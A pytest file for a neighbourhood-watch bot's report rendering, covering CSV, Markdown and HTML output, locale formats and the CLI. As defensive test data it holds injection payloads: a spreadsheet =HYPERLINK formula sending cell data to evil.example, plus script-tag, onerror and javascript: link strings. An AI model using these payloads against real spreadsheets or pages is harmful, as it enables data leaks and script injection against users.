"""The report as CSV, Markdown and HTML, and the `relaybot report` command."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from relaybot.cli import main
from relaybot.domain.report import Hood, Period, Tally, build_report
from relaybot.network_file import parse_network
from relaybot.reports import make_report, render
from relaybot.sandbox.report_sample import fill_history, migrate

AMS = ZoneInfo("Europe/Amsterdam")
HOSTILE = '<b>Jan & Piet</b> | "oost"'

HEADER = (
    "slug,name,kern,raised,received,reports_112,median_minutes_to_112,duplicates_prevented,"
    "warnings,signups,admitted,last_activity,inactive,signs,vests_eur"
)


def at(text: str) -> float:
    return datetime.strptime(text, "%Y-%m-%d %H:%M").replace(tzinfo=AMS).timestamp()


def small_report():
    period = Period(date(2026, 1, 1), date(2026, 3, 31), AMS)
    tally = Tally(period, period.end)
    tally.raised("a", at("2026-01-05 21:00"))
    tally.flagged("a", at("2026-01-05 21:12"), at("2026-01-05 21:00"))
    tally.flagged("a", at("2026-02-05 21:05"), at("2026-02-05 21:00"))
    tally.active("a", at("2026-03-30 21:00"))
    hoods = [Hood("a", HOSTILE, "Kern & Co", 3, 179.5), Hood("b", "Beta", "Kern", 4, 0)]
    return build_report(
        "Net <x>", hoods, tally, inactive_days=60, regie_name="Regiegroep", total_name="Totaal"
    )


def test_csv_has_the_stable_header_and_a_row_each() -> None:
    """One header row with the spec's column names, one row per neighbourhood in file order,
    one for the regiegroep and a totals row; numbers as plain text."""
    text = render(small_report(), "csv", "en")
    assert text.splitlines()[0] == HEADER
    table = list(csv.DictReader(io.StringIO(text)))
    assert [row["slug"] for row in table] == ["a", "b", "regie", "total"]
    a, b, regie, total = table
    assert a["name"] == HOSTILE  # CSV quotes it; nothing is escaped or lost
    assert (a["raised"], a["reports_112"], a["median_minutes_to_112"]) == ("1", "2", "8.5")
    assert (a["last_activity"], a["inactive"], a["vests_eur"]) == ("2026-03-30", "no", "179.5")
    assert (b["median_minutes_to_112"], b["last_activity"], b["inactive"]) == ("", "", "yes")
    assert regie["inactive"] == ""
    assert (total["inactive"], total["signs"], total["raised"]) == ("1", "7", "1")


def test_markdown_escapes_table_cells_and_lists_inactive() -> None:
    """A '|' in a name cannot break the Markdown table; inactive neighbourhoods are listed
    with the signs that would be taken down."""
    text = render(small_report(), "markdown", "en")
    assert '\\| \\"oost\\"' in text
    assert "- Beta (Kern): last activity never; 4 attention signs to be removed" in text
    lines = [line for line in text.splitlines() if line.startswith("|")]
    assert len({len(re.split(r"(?<!\\)\|", line)) for line in lines}) == 1


def test_html_is_self_contained_and_escapes_names() -> None:
    """The HTML has no script, no external font, image or style, two inline SVG charts,
    marks inactive rows, and shows a name like <b>Jan & Piet</b> as written."""
    text = render(small_report(), "html", "en")
    assert "&lt;b&gt;Jan &amp; Piet&lt;/b&gt;" in text and "<b>Jan" not in text
    assert "Net &lt;x&gt;" in text
    assert not re.search(r"<script|<link|<img|<iframe|@import|url\(|src=|href=", text, re.I)
    assert re.findall(r"https?://[^\"' ]+", text) == ["http://www.w3.org/2000/svg"] * 2
    assert text.count("<svg") == 2
    assert 'class="inactive"' in text
    assert "@page { size: A4" in text and 'name="viewport"' in text


def test_html_chart_caps_neighbourhoods_but_table_has_all(tmp_path: Path) -> None:
    """With more neighbourhoods than fit a chart, it shows the busiest and says so; the table
    lists every one."""
    period = Period(date(2026, 1, 1), date(2026, 1, 31), AMS)
    tally = Tally(period, period.end)
    hoods = [Hood(f"h{i}", f"Buurt {i}", "K") for i in range(45)]
    for i in range(45):
        for _ in range(i):
            tally.raised(f"h{i}", at("2026-01-10 20:00"))
    made = build_report("N", hoods, tally, inactive_days=60, regie_name="R", total_name="T")
    text = render(made, "html", "en")
    assert "The 30 busiest of 45 neighbourhoods" in text
    assert text.count("<tr") == 1 + 45 + 2
    chart = text[text.index('id="hoods"') :]
    assert " Buurt 44<" in chart and " Buurt 14<" not in chart


def test_render_refuses_an_unknown_format() -> None:
    """Only markdown, csv and html exist."""
    with pytest.raises(ValueError, match="unknown format 'pdf'"):
        render(small_report(), "pdf")


# --- the command -------------------------------------------------------------------------

EXAMPLE = Path(__file__).resolve().parents[2] / "config" / "network.example.toml"


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    for name in ("RELAYBOT_LANGUAGE", "RELAYBOT_TOKEN"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("RELAYBOT_NETWORK_FILE", str(EXAMPLE))
    monkeypatch.setenv("RELAYBOT_DATABASE", str(tmp_path / "db.sqlite3"))
    return tmp_path


def test_report_command_writes_each_format(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`relaybot report --format F --output FILE` writes the file; without --output it prints."""
    network = parse_network(EXAMPLE.read_text(), str(EXAMPLE))
    fill_history(env / "db.sqlite3", network, incidents=200, until=at("2026-11-20 12:00"))
    for fmt in ("markdown", "csv", "html"):
        out = env / f"report.{fmt}"
        assert main(["report", "--format", fmt, "--output", str(out), "--until", "2026-11-20"]) == 0
        assert out.stat().st_size > 1000
    written = (env / "report.csv").read_bytes()
    assert written.startswith(b"\xef\xbb\xbf")  # Dutch (the default): for Dutch Excel
    assert written.decode("utf-8-sig").splitlines()[0] == HEADER.replace(",", ";")
    assert main(["report", "--since", "2026-01-01", "--until", "2026-11-20"]) == 0
    printed = capsys.readouterr().out
    assert printed.startswith("# Rapportage buurtpreventie Hof van Twente")
    assert "Periode 2026-01-01 t/m 2026-11-20" in printed


@pytest.mark.parametrize(
    ("args", "line"),
    [
        (
            ["--since", "2026-13-01"],
            "--since moet een datum zijn zoals 2026-01-31 (niet '2026-13-01')",
        ),
        (["--until", "gisteren"], "--until moet een datum zijn zoals 2026-01-31 (niet 'gisteren')"),
        (
            ["--since", "2026-05-02", "--until", "2026-05-01"],
            "--since 2026-05-02 is after --until 2026-05-01",
        ),
        (["--output", "/nonexistent/dir/r.md"], "cannot write /nonexistent/dir/r.md"),
    ],
)
def test_report_command_bad_input_is_one_line(
    env: Path, capsys: pytest.CaptureFixture[str], args: list[str], line: str
) -> None:
    """A bad date, a reversed period or an unwritable file: one line, exit 2, nothing written."""
    migrate(env / "db.sqlite3")
    assert main(["report", *args]) == 2
    captured = capsys.readouterr()
    assert captured.err.startswith(f"relaybot: {line}")
    assert captured.err.count("\n") == 1 and captured.out == ""


def test_report_command_without_database(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Before the bot ever ran there is no database: one line saying so, none created."""
    assert main(["report"]) == 2
    assert "no database at" in capsys.readouterr().err
    assert not (env / "db.sqlite3").exists()


def test_report_in_english(
    env: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """RELAYBOT_LANGUAGE=en gives English headings; the CSV's names stay the same."""
    migrate(env / "db.sqlite3")
    monkeypatch.setenv("RELAYBOT_LANGUAGE", "en")
    assert main(["report", "--until", "2026-11-20"]) == 0
    assert capsys.readouterr().out.startswith("# Neighbourhood-watch report Hof van Twente")
    made = make_report(parse_network(EXAMPLE.read_text()), env / "db.sqlite3", language="en")
    assert made.rows[-1].name == "Steering group" and made.totals.name == "Total"


def test_digest_command_without_database(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`relaybot digest` before the bot ever ran: one line, exit 2, no database created."""
    assert main(["digest"]) == 2
    assert capsys.readouterr().err.startswith("relaybot: no database at")
    assert not (env / "db.sqlite3").exists()


def test_digest_command_queues_in_the_outbox(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """With a database but no bot running, the digest waits in the outbox for the
    coordinators' group (the bot sends it when it runs)."""
    import sqlite3

    migrate(env / "db.sqlite3")
    assert main(["digest"]) == 0
    assert "Weekoverzicht klaargezet" in capsys.readouterr().out
    with sqlite3.connect(env / "db.sqlite3") as conn:
        rows = conn.execute("SELECT chat_id, action, status FROM outbox").fetchall()
    assert rows == [(-1001000000002, "say", "pending")]


EVIL_NAMES = (
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+31 6 12345678",
    "-2+3",
    "@SUM(1+1)",
    "\tTab",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[klik](javascript:alert(1))",
)


def hostile_report():
    period = Period(date(2026, 1, 1), date(2026, 3, 31), AMS)
    tally = Tally(period, period.end)
    hoods = [Hood(f"h{i}", name, name, 1, 0) for i, name in enumerate(EVIL_NAMES)]
    return build_report(
        "<script>x()</script>", hoods, tally, inactive_days=60, regie_name="R", total_name="T"
    )


@pytest.mark.parametrize(("language", "delimiter"), [("nl", ";"), ("en", ",")])
def test_csv_cells_cannot_start_a_formula(language: str, delimiter: str) -> None:
    """A name beginning with = + - @ or a tab reaches the spreadsheet as text: prefixed with
    an apostrophe (OWASP's advice), otherwise unchanged; in Dutch as in English."""
    text = render(hostile_report(), "csv", language).removeprefix("\ufeff")  # type: ignore[arg-type]
    table = list(csv.DictReader(io.StringIO(text), delimiter=delimiter))
    names = [row["name"] for row in table[: len(EVIL_NAMES)]]
    assert names[:5] == ["'" + name for name in EVIL_NAMES[:5]]
    assert names[5:] == list(EVIL_NAMES[5:])
    starts = {cell[:1] for row in table for cell in row.values()}
    assert not starts & {"=", "+", "-", "@", "\t"}


def test_markdown_of_hostile_names_renders_as_text() -> None:
    """Rendered by a CommonMark renderer, the Markdown report holds no HTML element, no link
    and no extra table cell made from a name: every name shows as written."""
    from markdown_it import MarkdownIt

    text = render(hostile_report(), "markdown", "nl")
    html = MarkdownIt("commonmark").enable("table").render(text)
    assert not re.search(r"<(script|img|a)\b", html)
    assert "javascript:" not in re.sub(r">[^<]*<", "><", html)  # only inside text, if at all
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "[klik](javascript:alert(1))" in html
    cells = {len(re.findall(r"<t[dh]", row)) for row in re.findall(r"<tr>.*?</tr>", html, re.S)}
    assert len(cells) == 1


def test_html_report_forbids_scripts_by_policy() -> None:
    """The HTML report carries a Content-Security-Policy that allows no script, no fetch and
    nothing from elsewhere (inline styles only), and names stay text."""
    text = render(hostile_report(), "html", "nl")
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', text)
    assert policy is not None
    rules = dict(part.strip().split(" ", 1) for part in policy.group(1).split(";"))
    assert rules["default-src"] == "'none'" and rules["style-src"] == "'unsafe-inline'"
    assert "script-src" not in rules
    assert not re.search(r"<(script|img)\b", text)


# --- Dutch numbers and a CSV that Dutch Excel splits (issue 28) ---------------------------


def big_report():
    """One neighbourhood with a median of 8.5 minutes and 1,234.5 euros of vests."""
    period = Period(date(2026, 1, 1), date(2026, 3, 31), AMS)
    tally = Tally(period, period.end)
    tally.flagged("a", at("2026-01-05 21:12"), at("2026-01-05 21:00"))
    tally.flagged("a", at("2026-02-05 21:05"), at("2026-02-05 21:00"))
    tally.counted("a", "duplicates_prevented", 1234)
    tally.active("a", at("2026-03-30 21:00"))
    hoods = [Hood("a", "Alfa; Oost", "Kern", 1, 1234.5), Hood("b", "Beta", "Kern", 4, 0)]
    return build_report("Net", hoods, tally, inactive_days=60, regie_name="R", total_name="T")


def test_dutch_csv_has_semicolons_a_bom_and_decimal_commas() -> None:
    """In Dutch the CSV starts with a UTF-8 byte-order mark and separates cells with ';' (what
    Dutch Excel splits on), decimals with a comma and no thousands point; the column names
    stay the same."""
    text = render(big_report(), "csv", "nl")
    assert text.startswith("\ufeff")
    assert text[1:].splitlines()[0] == HEADER.replace(",", ";")
    table = list(csv.DictReader(io.StringIO(text[1:]), delimiter=";"))
    a = table[0]
    assert a["name"] == "Alfa; Oost"
    assert (a["median_minutes_to_112"], a["vests_eur"]) == ("8,5", "1234,5")
    assert a["duplicates_prevented"] == "1234"


def test_english_csv_has_commas_no_bom_and_decimal_points() -> None:
    """In English the CSV is comma-separated without a byte-order mark, with decimal points."""
    text = render(big_report(), "csv", "en")
    assert text.splitlines()[0] == HEADER
    a = next(csv.DictReader(io.StringIO(text)))
    assert (a["median_minutes_to_112"], a["vests_eur"]) == ("8.5", "1234.5")


@pytest.mark.parametrize(
    ("language", "median", "vests", "duplicates"),
    [("nl", "8,5", "1.234,5", "1.234"), ("en", "8.5", "1,234.5", "1,234")],
)
@pytest.mark.parametrize("fmt", ["markdown", "html"])
def test_report_numbers_as_the_reader_writes_them(
    fmt: str, language: str, median: str, vests: str, duplicates: str
) -> None:
    """Markdown and HTML write decimals and thousands as the reader's language does: Dutch
    '1.234,5' and '8,5', English '1,234.5' and '8.5'."""
    text = render(big_report(), fmt, language)  # type: ignore[arg-type]
    for value in (median, vests, duplicates):
        assert re.search(rf"[>|] ?\**{re.escape(value)}\**<? ?", text), value
    wrong = "8.5" if language == "nl" else "8,5"
    assert wrong not in text


@pytest.mark.parametrize(
    ("language", "one", "many"),
    [
        ("nl", "1 attentiebord wordt weggehaald", "4 attentieborden worden weggehaald"),
        ("en", "1 attention sign to be removed", "4 attention signs to be removed"),
    ],
)
@pytest.mark.parametrize("fmt", ["markdown", "html"])
def test_inactive_lines_count_signs_in_singular_and_plural(
    fmt: str, language: str, one: str, many: str
) -> None:
    """An inactive neighbourhood's signs are written out: one sign in the singular, more in
    the plural; never 'bord(en)'."""
    period = Period(date(2026, 1, 1), date(2026, 3, 31), AMS)
    hoods = [Hood("a", "Alfa", "K", 1, 0), Hood("b", "Beta", "K", 4, 0)]
    made = build_report(
        "N", hoods, Tally(period, period.end), inactive_days=60, regie_name="R", total_name="T"
    )
    text = render(made, fmt, language)  # type: ignore[arg-type]
    assert one in text and many in text
    assert "(en)" not in text and "(s)" not in text
